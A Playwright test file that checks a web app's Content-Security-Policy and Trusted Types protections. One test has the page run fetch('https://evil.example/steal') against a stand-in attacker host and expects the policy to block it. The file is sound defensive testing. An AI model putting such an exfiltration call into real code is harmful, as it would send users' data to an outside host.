import { expect } from '@playwright/test'
import { test } from './support/test.ts'

test('the page comes with the headers of production', async ({ page }) => {
  const response = await page.goto('/')
  const headers = response?.headers() ?? {}
  const policy = headers['content-security-policy'] ?? ''
  expect(policy).toContain("default-src 'none'")
  expect(policy).toContain("require-trusted-types-for 'script'")
  expect(policy).not.toContain('unsafe')
  expect(headers['x-content-type-options']).toBe('nosniff')
  expect(headers['cross-origin-opener-policy']).toBe('same-origin-allow-popups')
})

test('markup made of text is refused, and the watch of these journeys sees it', async ({
  page,
  troubles,
}) => {
  troubles.expect(/CSP: require-trusted-types-for/)
  troubles.expect(/requires 'TrustedHTML' assignment/)
  await page.goto('/')
  const refused = await page.evaluate(() => {
    try {
      document.body.insertAdjacentHTML('beforeend', '<b>made of text</b>')
      return ''
    } catch (error) {
      return String(error)
    }
  })
  expect(refused).toContain('TypeError')
})

test('a call to elsewhere is refused, and the watch sees that too', async ({ page, troubles }) => {
  troubles.expect(/CSP: connect-src refused https:\/\/evil\.example/)
  troubles.expect(/violates the (following|document's) Content Security Policy/)
  await page.goto('/')
  const refused = await page.evaluate(() =>
    fetch('https://evil.example/steal').then(
      () => '',
      (error) => String(error),
    ),
  )
  expect(refused).toContain('TypeError')
})
